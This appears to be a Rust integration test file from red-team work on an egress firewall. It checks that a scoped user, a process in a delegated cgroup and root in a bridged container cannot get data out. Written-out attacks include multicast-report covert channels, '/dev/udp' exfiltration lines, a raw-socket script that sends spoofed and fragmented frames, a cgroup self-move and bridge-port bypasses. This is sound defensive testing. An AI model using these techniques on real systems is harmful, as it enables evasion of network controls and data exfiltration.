//! A red-team pass over scope (issue 11): a listed user, a process in a listed cgroup and root
//! in a container on a listed bridge try to get out. Each way out it found is closed, by a
//! rule or by refusing the host configuration that opens it (a delegated cgroup, a bridge with
//! a LAN port); these tests keep every one closed, beside the attempts that never got out.

use std::fs;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::os::unix::fs::chown;
use std::time::Duration;

use crate::common::*;

const SCOPED_UID: u32 = 1001;
const SCOPED: Adversary = Adversary::User(SCOPED_UID);
const UDP_PORT: u16 = 7000;

/// Guard mode; uid 1001 is fenced and may reach HOST_V4:443 only.
const USER_POLICY: &str = r#"
version: 1
action: reject
scope:
  users: [1001]
allow:
  - cidr: 192.0.2.10/32
    ports: [443]
dns:
  mode: guard
  upstream: [192.0.2.53]
"#;

fn user_scoped_world() -> World {
    let w = World::new();
    let policy = w.write_file("scope.yaml", USER_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    w
}

/// A UDP socket bound in the sandbox (a service of the host itself).
fn sandbox_udp(w: &World, addr: SocketAddr) -> UdpSocket {
    let socket = w
        .in_sandbox_ns(|| UdpSocket::bind(addr))
        .unwrap_or_else(|e| panic!("bind {addr} in the sandbox: {e}"));
    socket
        .set_read_timeout(Some(Duration::from_millis(500)))
        .expect("a read timeout");
    socket
}

/// The payloads that arrived at `socket` until it stays quiet for its read timeout.
fn received(socket: &UdpSocket) -> Vec<String> {
    let mut got = Vec::new();
    let mut buf = [0u8; 2048];
    while let Ok((n, _)) = socket.recv_from(&mut buf) {
        got.push(String::from_utf8_lossy(&buf[..n]).into_owned());
    }
    got
}

/// Joins the IPv4 multicast group 239.69.70.71 (its last bytes `EFG` mark the reports' group
/// records; an attacker would encode 28 bits of data per group, one group per socket) on the interface of ARGV[1], then waits for
/// the kernel's unsolicited reports. Needs no privilege.
const JOIN_GROUPS: &str = r#"
import socket, struct, sys, time
socks = []
for n in range(1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    group = socket.inet_aton('239.69.70.71')
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group + socket.inet_aton(sys.argv[1]))
    socks.append(s)
time.sleep(2)
print('joined')
"#;

/// A scoped user makes the kernel send IGMP membership reports whose group addresses it
/// chooses (28 bits each, as many as it joins): the reports have no socket owner, so no scope
/// rule sends them to the fence, while the unscoped fence refuses them (no rule accepts IGMP).
/// MLD (IPv6) reports go the same way, past the fence's 1 kbyte/minute limit on them.
#[test]
fn a_scoped_user_sends_no_chosen_multicast_reports() {
    let w = World::new();
    let iface = SANDBOX_V4.to_string();
    let join = || w.adversary_cmd(SCOPED, &[PYTHON, "-c", JOIN_GROUPS, &iface]);
    // Without a table the reports leave: the capture sees them, the test can prove a hole.
    let (count, joined) = w.count_marked_frames(0x0800, "EFG", 3, join);
    assert!(joined.success(), "{joined}");
    let before: u32 = count.stdout.trim().parse().expect("a count");
    assert!(
        before > 0,
        "no report without a table: the test proves nothing"
    );

    let policy = w.write_file("scope.yaml", USER_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    let (count, joined) = w.count_marked_frames(0x0800, "EFG", 3, join);
    assert!(joined.success(), "{joined}");
    assert_eq!(
        count.stdout.trim(),
        "0",
        "uid 1001's group reports left the host through the scope"
    );
}

/// Joins 400 IPv6 multicast groups ff0e::4546:4748:N (the bytes `EFGH` mark the reports'
/// records; an attacker has 112 bits per group) on the sandbox's eth0, then waits for the
/// kernel's reports. Needs no privilege.
const JOIN_GROUPS6: &str = r#"
import socket, struct, time
index = socket.if_nametoindex('eth0')
socks = []
for n in range(400):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    group = socket.inet_pton(socket.AF_INET6, 'ff0e::4546:4748:%x' % (n + 1))
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group + struct.pack('@I', index))
    socks.append(s)
time.sleep(2)
print('joined')
"#;

/// The fence lets MLD reports out at 1 kbyte/minute with a burst of 1500 bytes (a full
/// bucket holds the burst and a minute's rate); a scoped user's joins would make the kernel
/// send as many as it likes, each group record a 112-bit address of its choosing, past the
/// scope, were the reports not sent through the fence.
#[test]
fn a_scoped_users_mld_reports_are_bounded_as_the_fence_bounds_them() {
    let w = user_scoped_world();
    let ((frames, bytes), joined) = count_on(&w, "veth0", "EFGH", || {
        w.adversary_cmd(SCOPED, &[PYTHON, "-c", JOIN_GROUPS6])
    });
    assert!(joined.success(), "{joined}");
    let limit = egress_fence::core::ruleset::MLD_REPORT_LIMIT;
    assert!(
        bytes <= limit.count + u64::from(limit.burst),
        "{frames} MLD reports ({bytes} bytes) with uid 1001's group addresses left through the scope"
    );
}

/// The same joins under the whole-namespace fence (no scope): the kernel's reports meet the
/// output chain, where no rule accepts IGMP. The scope must not do worse.
#[test]
fn the_unscoped_fence_refuses_chosen_multicast_reports() {
    let w = World::new();
    let policy = w.write_file(
        "fence.yaml",
        &USER_POLICY.replace("scope:\n  users: [1001]\n", ""),
    );
    put_up(&w, &policy, SCOPE_LOAD);
    let iface = SANDBOX_V4.to_string();
    let (count, joined) = w.count_marked_frames(0x0800, "EFG", 3, || {
        w.adversary_cmd(SCOPED, &[PYTHON, "-c", JOIN_GROUPS, &iface])
    });
    assert!(joined.success(), "{joined}");
    assert_eq!(
        count.stdout.trim(),
        "0",
        "reports left the fenced namespace"
    );
}

/// When the guard does not hold its listen address (not started yet, restarting, crashed),
/// the table still accepts every scoped query to 127.0.0.53:53, and any resolver bound to
/// the wildcard address (dnsmasq's default) receives it and can recurse it out as an
/// unscoped process. The guard's own answers are protected (`ip saddr 127.0.0.53 udp sport
/// 53 meta mark != GUARD_MARK goto refused`); the question is not.
#[test]
fn a_scoped_query_to_the_guards_address_reaches_only_the_guard() {
    let w = user_scoped_world();
    let wildcard = sandbox_udp(&w, SocketAddr::new(IpAddr::V4(Ipv4Addr::UNSPECIFIED), 53));
    let script = r#"echo -n exfil-by-query > /dev/udp/127.0.0.53/53"#;
    let _ = w.adversary_cmd(SCOPED, &["bash", "-c", script]);
    assert_eq!(
        received(&wildcard),
        Vec::<String>::new(),
        "a resolver that is not the guard got uid 1001's query on 127.0.0.53"
    );
}

/// The fence's target for the cgroup tests: refused for the scoped, listened to count.
const OTHER_PORT: u16 = 443;

fn cgroup_policy(cgroup: &str) -> String {
    format!(
        "version: 1\naction: reject\nscope:\n  cgroups: [{cgroup}]\nallow:\n  - cidr: \
         192.0.2.10/32\n    ports: [443]\ndns:\n  resolvers: [192.0.2.53]\n"
    )
}

/// Runs, as uid 1001 from inside cgroup `from`, a shell that writes its own pid to
/// `to`'s cgroup.procs and then connects to OTHER_V4:443.
fn move_then_connect(w: &World, from: &std::path::Path, to: &std::path::Path) -> CmdOutput {
    let procs = to.join("cgroup.procs");
    let procs = procs.to_str().expect("utf-8 path");
    let who = as_ids(SCOPED_UID, SCOPED_UID, &[]);
    let mut args: Vec<&str> = who.iter().map(String::as_str).collect();
    let other = OTHER_V4.to_string();
    let port = OTHER_PORT.to_string();
    args.extend([
        "sh",
        "-c",
        r#"echo $$ > "$0" || echo "cannot move: $?" >&2; exec nc -z -v -w 2 "$1" "$2""#,
        procs,
        &other,
        &port,
    ]);
    w.sandbox_net_only_cmd_in_cgroup(from, &args)
}

/// Makes `delegated/fenced` and `delegated/free` below `cgroups`, delegated to the scoped
/// user as systemd delegates (`user@UID.service`, a unit with `Delegate=`, a rootless
/// container manager's cgroup): the directories and their cgroup.procs are the user's.
/// Returns (fenced, free).
fn delegate_cgroups(cgroups: &mut TestCgroups) -> (std::path::PathBuf, std::path::PathBuf) {
    let delegated = cgroups.make("delegated");
    let fenced = cgroups.make("delegated/fenced");
    let free = cgroups.make("delegated/free");
    for path in [
        delegated.clone(),
        delegated.join("cgroup.procs"),
        free.clone(),
        free.join("cgroup.procs"),
        fenced.clone(),
        fenced.join("cgroup.procs"),
    ] {
        chown(&path, Some(SCOPED_UID), Some(SCOPED_UID))
            .unwrap_or_else(|e| panic!("chown {}: {e}", path.display()));
    }
    (fenced, free)
}

/// A listed cgroup that sits in a subtree delegated to the fenced user: the user may write
/// the cgroup.procs of its delegated subtree, so a fenced process moves itself to a sibling
/// cgroup that no rule lists and its next socket is not fenced. No table can stop that (the
/// move is the kernel's cgroup permission, not a packet): the hole is closed by refusing
/// the configuration. The plan's table, put up by nft past egress-fence's checks, shows the
/// move out; `check` fails on the policy, and `apply` and `run` refuse it, naming the user to
/// list as well.
#[test]
fn a_process_in_a_delegated_listed_cgroup_cannot_move_itself_out() {
    let w = World::new();
    let mut cgroups = TestCgroups::new();
    let (fenced, free) = delegate_cgroups(&mut cgroups);
    let policy = w.write_file(
        "scope.yaml",
        &cgroup_policy(&cgroups.policy_path("delegated/fenced")),
    );
    put_up(&w, &policy, ScopeLoad::NftText);
    let listener = w.listen_tcp(OTHER_V4, OTHER_PORT);
    let stay = move_then_connect(&w, &fenced, &fenced);
    assert!(!stay.success(), "the fenced cgroup is not fenced: {stay}");
    let out = move_then_connect(&w, &fenced, &free);
    assert!(
        out.success() && listener.wait_for(1, Duration::from_secs(2)),
        "the process did not get out by moving itself: the test proves nothing: {out}"
    );

    let refusal = "lies in a subtree delegated to uid 1001";
    let advice = "unless the same policy also lists user 1001 in `scope.users`";
    let check = std::process::Command::new(EGRESS_FENCE_BIN)
        .args(["check", path_arg(&policy)])
        .output()
        .expect("run egress-fence check");
    let check_err = String::from_utf8_lossy(&check.stderr);
    assert_eq!(check.status.code(), Some(2), "{check_err}");
    assert!(
        check_err.contains(&format!("error: {}", path_arg(&policy)))
            && check_err.contains(refusal)
            && check_err.contains(advice),
        "{check_err}"
    );
    let before = w.table_handle();
    for command in ["apply", "run"] {
        let out = w.egress_fence(&[command, path_arg(&policy)]);
        assert_eq!(out.code(), 2, "{command}: {out}");
        assert!(
            out.stderr.contains(refusal) && out.stderr.contains(advice),
            "{command}: {out}"
        );
    }
    assert_eq!(
        w.table_handle(),
        before,
        "a refused policy replaced the table"
    );
}

/// The same delegated cgroup, with its user listed too: `apply` accepts the policy, and the
/// process that moves itself out of the listed cgroup is still fenced, by its uid.
#[test]
fn a_process_in_a_delegated_listed_cgroup_whose_user_is_listed_stays_fenced_when_it_moves() {
    let w = World::new();
    let mut cgroups = TestCgroups::new();
    let (fenced, free) = delegate_cgroups(&mut cgroups);
    let text = cgroup_policy(&cgroups.policy_path("delegated/fenced"))
        .replace("scope:\n", "scope:\n  users: [1001]\n");
    let policy = w.write_file("scope.yaml", &text);
    put_up(&w, &policy, SCOPE_LOAD);
    let listener = w.listen_tcp(OTHER_V4, OTHER_PORT);

    let out = move_then_connect(&w, &fenced, &free);
    assert!(
        !out.stderr.contains("cannot move"),
        "the move failed: {out}"
    );
    assert!(
        !out.success() && listener.count() == 0,
        "a process of the listed user moved itself out and connected: {out}"
    );
}

/// The same move out of a listed cgroup that the user was not delegated: cgroup.procs is
/// root's, the write fails, the process stays fenced.
#[test]
fn a_process_in_a_listed_cgroup_cannot_move_itself_out_without_a_delegation() {
    let w = World::new();
    let mut cgroups = TestCgroups::new();
    let fenced = cgroups.make("fenced");
    let free = cgroups.make("free");
    let policy = w.write_file("scope.yaml", &cgroup_policy(&cgroups.policy_path("fenced")));
    put_up(&w, &policy, SCOPE_LOAD);
    let listener = w.listen_tcp(OTHER_V4, OTHER_PORT);

    let out = move_then_connect(&w, &fenced, &free);
    assert!(out.stderr.contains("cannot move"), "{out}");
    assert!(!out.success(), "{out}");
    assert_eq!(listener.count(), 0);
    let procs = fs::read_to_string(free.join("cgroup.procs")).unwrap_or_default();
    assert!(procs.trim().is_empty(), "something moved: {procs}");
}

/// A scoped user in its own user namespace (`unshare -Ur`: root there, with every
/// capability of that namespace) still owns its sockets as uid 1001 on the host.
#[test]
fn a_scoped_user_in_its_own_user_namespace_stays_fenced() {
    let w = user_scoped_world();
    let listener = w.listen_tcp(OTHER_V4, 443);
    let probe = w.adversary_cmd(SCOPED, &["unshare", "-Ur", "id", "-u"]);
    assert_eq!(probe.stdout.trim(), "0", "no user namespace here: {probe}");
    let out = w.adversary_cmd(
        SCOPED,
        &[
            "unshare",
            "-Ur",
            "nc",
            "-z",
            "-v",
            "-w",
            "2",
            "203.0.113.10",
            "443",
        ],
    );
    assert!(
        !out.success(),
        "uid 1001 as root of a user namespace: {out}"
    );
    assert_eq!(listener.count(), 0);
}

/// TCP fast open (data in the SYN), UDP GSO (one send, many datagrams), sendmsg, and
/// datagrams to a multicast group and to the limited broadcast, from a scoped user.
/// Prints one word per attempt: `sent` or `refused`.
const ODD_SENDS: &str = r#"
import socket, sys
other, port = sys.argv[1], int(sys.argv[2])
def attempt(f):
    try:
        f()
        return 'sent'
    except (PermissionError, ConnectionRefusedError, OSError):
        return 'refused'
def tfo():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    s.sendto(b'tfo-data', socket.MSG_FASTOPEN, (other, 443))
    s.recv(10)
def gso():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_UDP, 103, 100)  # UDP_SEGMENT
    s.sendto(b'gso-data' * 50, (other, port))
def sendmsg():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((other, port))
    s.sendmsg([b"msg-data"])
def multicast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(sys.argv[3]))
    s.sendto(b'mcast-data', ('239.1.2.3', port))
def broadcast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(b'bcast-data', ('255.255.255.255', 67))
print(' '.join(attempt(f) for f in (tfo, gso, sendmsg, multicast, broadcast)))
"#;

#[test]
fn a_scoped_user_gets_nothing_out_by_fast_open_gso_multicast_or_broadcast() {
    let w = user_scoped_world();
    let tcp = w.listen_tcp(OTHER_V4, 443);
    let udp = w.listen_udp(OTHER_V4, UDP_PORT);
    let (other, port, iface) = (
        OTHER_V4.to_string(),
        UDP_PORT.to_string(),
        SANDBOX_V4.to_string(),
    );
    let (capture, out) = w.count_marked_frames(0x0800, "-data", 3, || {
        w.adversary_cmd(SCOPED, &[PYTHON, "-c", ODD_SENDS, &other, &port, &iface])
    });
    assert_eq!(
        out.stdout.trim(),
        "refused refused refused refused refused",
        "{out}"
    );
    assert_eq!(
        capture.stdout.trim(),
        "0",
        "a scoped datagram left: {capture}"
    );
    assert_eq!(tcp.count() + udp.count(), 0);
}

/// A scoped user's DNS to the upstream over TCP 53 and DoT 853, and to a public resolver of
/// the deny list: all refused (the guard alone asks the upstream).
#[test]
fn a_scoped_user_reaches_no_upstream_over_tcp_or_dot() {
    let w = user_scoped_world();
    for port in [53u16, 853] {
        let out = w.adversary_cmd(
            SCOPED,
            &["nc", "-z", "-v", "-w", "2", "192.0.2.53", &port.to_string()],
        );
        assert!(
            !out.success(),
            "uid 1001 reached the upstream on {port}: {out}"
        );
    }
    let out = w.adversary_cmd(SCOPED, &["nc", "-z", "-v", "-w", "2", "8.8.8.8", "443"]);
    assert!(!out.success(), "{out}");
}

/// Writes one IPv4/UDP datagram to DST:PORT as a raw frame on the container's eth0 to the
/// bridge's MAC, from source SRC, with payload MARKER; whole, or in two fragments when ARGV[6]
/// is `frag`, from source port SPORT. Arguments: DST_MAC SRC DST PORT MARKER (whole|frag)
/// SPORT.
const SPOOFED_FRAME: &str = concat!(
    crate::inet_checksum_py!(),
    r#"
import socket, struct, sys
dst_mac, src, dst, port, marker, how, sport = sys.argv[1:8]
port, sport = int(port), int(sport)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('eth0', 0))
src_mac = s.getsockname()[4]
payload = (marker * 8).encode()
udp = struct.pack('!HHHH', sport, port, 8 + len(payload), 0) + payload
def ip(body, offset, more, proto=17):
    flags = (0x2000 if more else 0) | (offset // 8)
    h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(body), 777, flags, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack('!H', checksum(h)) + h[12:] + body
mac = bytes.fromhex(dst_mac.replace(':', '')) + src_mac + b'\x08\x00'
packets = [ip(udp, 0, False)] if how == 'whole' else [ip(udp[:16], 0, True), ip(udp[16:], 16, False)]
for _ in range(2):
    for p in packets:
        s.send(mac + p)
print('written')
"#
);

/// Root in the container spoofs its source (another container's address, an outside
/// address, the upstream resolver's) and fragments its datagrams: the forward path fences
/// what comes in on the bridge, whoever it claims to be from.
#[test]
fn a_container_gets_nothing_out_with_spoofed_sources_or_fragments() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    let mac = w.sandbox_cmd(&["cat", &format!("/sys/class/net/{BRIDGE}/address")]);
    assert!(mac.success(), "{mac}");
    let mac = mac.stdout.trim().to_string();
    let no_rp = w.sandbox_cmd(&["sysctl", "-q", "-w", "net.ipv4.conf.all.rp_filter=0"]);
    assert!(no_rp.success(), "{no_rp}");
    let _ = w.sandbox_cmd(&[
        "sysctl",
        "-q",
        "-w",
        &format!("net.ipv4.conf.{BRIDGE}.rp_filter=0"),
    ]);
    let listener = w.listen_udp(OTHER_V4, UDP_PORT);
    let sources = ["198.18.0.2", "198.18.0.3", "203.0.113.11", "192.0.2.53"];
    // Each phase its own source port: the first phase's flows are established in conntrack.
    let send = |marker: &str, sport: &str| {
        for src in sources {
            for how in ["whole", "frag"] {
                let out = container.cmd(&[
                    PYTHON,
                    "-c",
                    SPOOFED_FRAME,
                    &mac,
                    src,
                    &OTHER_V4.to_string(),
                    &UDP_PORT.to_string(),
                    marker,
                    how,
                    sport,
                ]);
                assert!(out.success(), "{out}");
            }
        }
    };
    send("pre", "40000");
    assert!(
        listener.wait_for(2, Duration::from_secs(2)),
        "without a table no datagram arrives: the test proves nothing"
    );
    let before = listener.count();

    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    send("post", "40001");
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(
        listener.count(),
        before,
        "a spoofed or fragmented datagram left the container: {:?}",
        listener
            .hits()
            .last()
            .map(|h| String::from_utf8_lossy(&h.data).into_owned())
    );
}

/// Root in the container reaches the host's bridge address on UDP-Lite, ICMP echo and IPv6
/// link-local and all-nodes multicast: refused on the input path like everything but DNS to
/// the guard. Prints `sent`/`refused` for UDP-Lite; the host's socket tells what arrived.
#[test]
fn a_container_reaches_the_host_on_no_other_protocol() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    // UDP-Lite (protocol 136) on the bridge address.
    let lite = w
        .in_sandbox_ns(|| {
            let s = socket2::Socket::new(
                socket2::Domain::IPV4,
                socket2::Type::DGRAM,
                Some(socket2::Protocol::from(136)),
            )?;
            s.bind(&SocketAddr::new(BRIDGE_V4, 5300).into())?;
            s.set_read_timeout(Some(Duration::from_millis(500)))?;
            Ok::<_, std::io::Error>(s)
        })
        .expect("a UDP-Lite socket in the sandbox");
    let send_lite = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\n\
                     s.sendto(b'lite', ('198.18.0.1', 5300))\nprint('sent')";
    // Whether a datagram and an echo request from the container reach the host: each sent
    // for certain (the sender says so), so that "nothing arrived" means refused.
    let reaches = || {
        let sent = container.cmd(&[PYTHON, "-c", send_lite]);
        assert!(sent.stdout.contains("sent"), "{sent}");
        let mut buf = [std::mem::MaybeUninit::<u8>::uninit(); 64];
        let datagram = lite.recv(&mut buf).is_ok();
        let ping = container.cmd(&["ping", "-c", "1", "-W", "1", "198.18.0.1"]);
        assert!(ping.stdout.contains("1 packets transmitted"), "{ping}");
        (datagram, ping.success())
    };
    assert_eq!(reaches(), (true, true), "without the table");
    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    assert_eq!(
        reaches(),
        (false, false),
        "(UDP-Lite datagram, ping answered) from the container to the host"
    );
}

/// Guard mode with the guard also on the bridge's address; the container is fenced.
const BRIDGE_GUARD_POLICY: &str = r#"
version: 1
action: reject
scope:
  forward: [efbr0]
allow:
  - cidr: 192.0.2.10/32
    ports: [443]
dns:
  mode: guard
  upstream: [192.0.2.53]
  listen: ["127.0.0.53:53", "198.18.0.1:53"]
"#;

/// The container's side of the hole above: while the guard does not hold the bridge's
/// address, `from_bridge` still accepts DNS to it and a wildcard :53 listener of the host
/// (dnsmasq, a stub left running) receives the container's question.
#[test]
fn a_containers_query_to_the_guards_bridge_address_reaches_only_the_guard() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    let policy = w.write_file("scope.yaml", BRIDGE_GUARD_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    let wildcard = sandbox_udp(&w, SocketAddr::new(IpAddr::V4(Ipv4Addr::UNSPECIFIED), 53));
    let script = format!("echo -n exfil-by-query > /dev/udp/{BRIDGE_V4}/53");
    let _ = container.cmd(&["bash", "-c", &script]);
    assert_eq!(
        received(&wildcard),
        Vec::<String>::new(),
        "a resolver that is not the guard got the container's query on the bridge address"
    );
}

/// Root in the container writes to the host's IPv6 link-local address on the bridge and to
/// all-nodes (ff02::1): the input path refuses both (only neighbour discovery and MLD pass).
#[test]
fn a_container_reaches_no_host_service_over_ipv6_link_local_or_multicast() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    let link_local = within(Duration::from_secs(5), || {
        let out = w.sandbox_cmd(&[
            "ip", "-6", "-o", "addr", "show", "dev", BRIDGE, "scope", "link",
        ]);
        out.stdout.contains("fe80") && !out.stdout.contains("tentative")
    });
    assert!(link_local, "the bridge has no link-local address");
    // The container sends from its own link-local address: once its DAD is over.
    let own = within(Duration::from_secs(5), || {
        let out = container.cmd(&[
            "ip", "-6", "-o", "addr", "show", "dev", "eth0", "scope", "link",
        ]);
        out.stdout.contains("fe80") && !out.stdout.contains("tentative")
    });
    assert!(own, "the container has no link-local address");
    let out = w.sandbox_cmd(&[
        "ip", "-6", "-o", "addr", "show", "dev", BRIDGE, "scope", "link",
    ]);
    let addr = out
        .stdout
        .split_whitespace()
        .find(|word| word.starts_with("fe80"))
        .and_then(|word| word.split('/').next())
        .expect("a link-local address")
        .to_string();
    let service = sandbox_udp(&w, "[::]:5301".parse().expect("an address"));
    let send = |marker: &str| {
        for to in [addr.as_str(), "ff02::1"] {
            let script = format!(
                "import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
                 s.sendto(b'{marker}', ('{to}', 5301, 0, socket.if_nametoindex('eth0')))"
            );
            let out = container.cmd(&[PYTHON, "-c", &script]);
            assert!(out.success(), "{out}");
        }
    };
    send("before");
    assert!(
        !received(&service).is_empty(),
        "without a table nothing arrives: the test proves nothing"
    );
    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    send("after");
    assert_eq!(received(&service), Vec::<String>::new());
}

/// Puts a second port on the bridge: a veth whose other end is in the world's net namespace
/// with 198.18.0.50/24 (a LAN router on the bridge's segment, as when the bridge holds the
/// host's NIC, or a VM's tap). The container then routes through it, not through the host.
fn bridge_lan_port(w: &World) {
    let peer = format!("netns {}", w.net_name());
    let script = format!(
        "ip link add lan0 type veth peer name ctlan {peer} && ip link set lan0 master {BRIDGE} && ip link set lan0 up"
    );
    let out = w.sandbox_cmd(&["sh", "-c", &script]);
    assert!(out.success(), "{out}");
    let out = w.net_cmd(&[
        "sh",
        "-c",
        "ip addr add 198.18.0.50/24 dev ctlan && ip link set ctlan up",
    ]);
    assert!(out.success(), "{out}");
}

/// What the container sends to OTHER_V4:7000 by the LAN router (its own route: root in the
/// container sets it); whether the datagram arrived.
fn container_out_by_the_lan(w: &World, container: &BridgedContainer) -> bool {
    let listener = w.listen_udp(OTHER_V4, UDP_PORT);
    let route = container.cmd(&["ip", "route", "replace", "default", "via", "198.18.0.50"]);
    assert!(route.success(), "{route}");
    let script = format!("echo -n by-the-lan > /dev/udp/{OTHER_V4}/{UDP_PORT}");
    for _ in 0..3 {
        let _ = container.cmd(&["bash", "-c", &script]);
    }
    listener.wait_for(1, Duration::from_secs(2))
}

/// Puts a port on the bridge that leads out of the host at layer 2, as a NIC, a VM's tap or
/// an overlay's tunnel does: a VXLAN device over the sandbox's uplink, whose other end in the
/// world's net namespace (`ctlan`, 198.18.0.50/24) is a LAN router on the bridge's segment.
/// (This kernel has no VLAN or bonding driver; any port that is not a veth is refused alike.)
fn bridge_tunnel_port(w: &World) {
    let script = format!(
        "ip link add lanvx type vxlan id 42 local 198.51.100.2 remote 198.51.100.1 dstport \
         4789 dev eth0 && ip link set lanvx master {BRIDGE} && ip link set lanvx up"
    );
    let out = w.sandbox_cmd(&["sh", "-c", &script]);
    assert!(out.success(), "{out}");
    let out = w.net_cmd(&[
        "sh",
        "-c",
        "ip link add ctlan type vxlan id 42 local 198.51.100.1 remote 198.51.100.2 dstport \
         4789 dev veth0 && ip addr add 198.18.0.50/24 dev ctlan && ip link set ctlan up",
    ]);
    assert!(out.success(), "{out}");
}

/// `apply` and `run` refuse `policy` (BRIDGE_POLICY) on a bridge with the LAN port of
/// [`bridge_tunnel_port`], leaving the table as it was.
fn assert_lan_port_refused(w: &World, policy: &std::path::Path) {
    let before = w.table_handle();
    for command in ["apply", "run"] {
        let out = w.egress_fence(&[command, path_arg(policy)]);
        assert_eq!(out.code(), 2, "{command}: {out}");
        assert!(
            out.stderr
                .contains("listed bridge efbr0 has port lanvx (a vxlan device)")
                && out
                    .stderr
                    .contains("reach the LAN at layer 2 past the fence")
                && out
                    .stderr
                    .contains("Remove the port from the bridge, or fence at the router"),
            "{command}: {out}"
        );
    }
    assert_eq!(
        w.table_handle(),
        before,
        "a refused policy replaced the table"
    );
}

/// With bridge netfilter on (Docker loads br_netfilter and sets bridge-nf-call-iptables),
/// frames bridged from the container to another port of a listed bridge meet the forward
/// hook with the bridge as input interface: fenced.
#[test]
fn a_container_on_a_bridge_with_a_lan_port_is_fenced_with_bridge_netfilter() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    bridge_lan_port(&w);
    let nf = w.sandbox_cmd(&["sysctl", "-q", "-w", "net.bridge.bridge-nf-call-iptables=1"]);
    assert!(nf.success(), "{nf}");
    assert!(
        container_out_by_the_lan(&w, &container),
        "without a table the container does not get out by the LAN: the test proves nothing"
    );
    // Each datagram comes from a fresh socket (another source port): a new flow.
    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
    put_up(&w, &policy, SCOPE_LOAD);
    assert!(
        !container_out_by_the_lan(&w, &container),
        "the container got out through the bridge's LAN port"
    );
}

/// Without bridge netfilter, frames the bridge switches between its ports never meet the
/// inet table: a container on a listed bridge that has another port (the host's NIC, a VM's
/// tap, a tunnel) routes by that port's router and is not fenced. No inet rule can see those
/// frames: the hole is closed by refusing the configuration. The plan's table, put up by nft
/// past egress-fence's checks, shows the container getting out; `apply` and `run` refuse the
/// policy. (A veth port to a router's namespace, as in the test with bridge netfilter above,
/// looks like a container's and is not refused: see the README's scope limits.)
#[test]
fn a_container_on_a_bridge_with_a_lan_port_is_fenced_without_bridge_netfilter() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    bridge_tunnel_port(&w);
    let nf = w.sandbox_cmd(&["sysctl", "-q", "-w", "net.bridge.bridge-nf-call-iptables=0"]);
    assert!(nf.success(), "{nf}");
    let policy = w.write_file("scope.yaml", BRIDGE_POLICY);
    put_up(&w, &policy, ScopeLoad::NftText);
    assert!(
        container_out_by_the_lan(&w, &container),
        "the container did not get out through the bridge's LAN port past the plan's table: \
         the test proves nothing"
    );
    assert_lan_port_refused(&w, &policy);
}

/// Puts a macvlan device on the bridge (the kernel here has no VLAN driver; a VLAN device
/// on the bridge takes the same way), with an address of the containers' subnet, and points
/// the container's default route at it: root in a container with CAP_NET_RAW writes frames
/// to any MAC address on its link, which is what setting its own route stands for here. What
/// the container sends then arrives at the host on `efmv0`, not on the bridge.
fn bridge_stacked_device(w: &World, container: &BridgedContainer) {
    let script = format!(
        "sysctl -q -w net.ipv4.conf.all.arp_ignore=1 && ip link add link {BRIDGE} name efmv0 \
         type macvlan mode bridge && ip addr add 198.18.0.3/24 dev efmv0 && ip link set efmv0 up"
    );
    let out = w.sandbox_cmd(&["sh", "-c", &script]);
    assert!(out.success(), "{out}");
    let route = container.cmd(&["ip", "route", "replace", "default", "via", "198.18.0.3"]);
    assert!(route.success(), "{route}");
}

/// What the container sends to OTHER_V4 by its default route; whether the datagram arrived.
fn container_out_by_its_route(w: &World, container: &BridgedContainer) -> bool {
    let listener = w.listen_udp(OTHER_V4, UDP_PORT);
    let script = format!("echo -n stacked > /dev/udp/{OTHER_V4}/{UDP_PORT}");
    for _ in 0..3 {
        let _ = container.cmd(&["bash", "-c", &script]);
    }
    listener.wait_for(1, Duration::from_secs(2))
}

/// A device stacked on a listed bridge (a VLAN, a macvlan) receives what containers on the
/// bridge send to its address, with itself as input interface: no rule naming the bridge sees
/// it, so it is forwarded unfenced. The plan's table, put up by nft past egress-fence's
/// checks, shows the container getting out; `apply` and `run` refuse the policy unless the
/// device is listed too, and then the container is fenced.
#[test]
fn a_device_stacked_on_a_listed_bridge_is_refused_unless_listed_too() {
    let w = World::new();
    let container = BridgedContainer::new(&w);
    bridge_stacked_device(&w, &container);
    let said = assert_stacked_refused(&w, &container, "forward: [efbr0]", "efmv0");
    assert!(
        said.contains("listed bridge efbr0 carries efmv0 (a macvlan device on top of it)"),
        "{said}"
    );
    assert_fenced_once_listed(&w, &container, "forward: [efbr0, efmv0]");
}

